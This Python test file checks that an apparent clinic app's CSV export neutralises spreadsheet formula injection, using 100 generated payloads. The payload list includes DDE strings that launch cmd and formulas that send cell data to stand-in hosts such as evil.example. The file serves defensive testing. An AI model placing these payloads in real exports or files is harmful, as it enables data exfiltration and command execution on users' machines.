"""CSV injection: 100 payloads through a real export (RFM scores of a transactions file, and the import
report) and read back as a spreadsheet would: no cell left that could run, and no text lost."""

from __future__ import annotations

import csv
import itertools
import re
from datetime import date
from pathlib import Path

from dermadesk.domain.csv_safety import safe_cell
from dermadesk.services.rfm_export import score_transactions, write_rows

BASES = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")',
    '=WEBSERVICE("http://x.example")',
    "-2+3+cmd|' /C calc'!A0",
    "@cmd|'/c notepad'!_xlbgnm.A1",
    "+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    "\t=1+1",
    "\r=1+1",
    "=0x41",
    "-A1",
    "+A1*2",
    "@A1",
    "==1",
    '="a"&"b"',
]
PREFIXES = ["", " ", "  ", "\t", "\r"]
FULL_WIDTH = ["\uff1d1+1", "\uff0bcmd", "\uff0dA1", "\uff20SUM(1)"]


def payloads() -> list[str]:
    made = [p + b for p, b in itertools.product(PREFIXES, BASES)]
    return list(dict.fromkeys(made))[:96] + FULL_WIDTH


_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def runnable(cell: str) -> bool:
    """A spreadsheet's view, written independently of the module under test."""
    start = cell.lstrip(" ")
    return bool(start) and start[0] in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20" and not _NUMBER.fullmatch(start)


def test_one_hundred_payloads_leave_no_runnable_cell_after_export(tmp_path: Path) -> None:
    attacks = payloads()
    assert len(attacks) == 100 and all(runnable(a) for a in attacks)
    assert [a for a in attacks if runnable(safe_cell(a)) or safe_cell(a)[1:] != a] == []
    source = tmp_path / "transactions.csv"
    with source.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["patient_id", "date", "amount"])
        writer.writerows([attack, "2026-01-15", "100.00"] for attack in attacks)
    exported = tmp_path / "scores.csv"
    write_rows(score_transactions(source, date(2026, 10, 31)), exported)
    with exported.open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert [c for c in cells if runnable(c)] == []
    exported_ids = {c[1:] for c in cells if c.startswith("'")}
    assert exported_ids == {a.strip() for a in attacks}  # neutralised, not lost (the reader trims ids)


def test_numbers_and_ordinary_text_are_left_alone() -> None:
    for text in ("-420.00", "+44", "12", "Zoë", "a=b", "", "e-mail"):
        assert safe_cell(text) == text
    assert safe_cell(None) == "" and safe_cell(-5) == "-5"
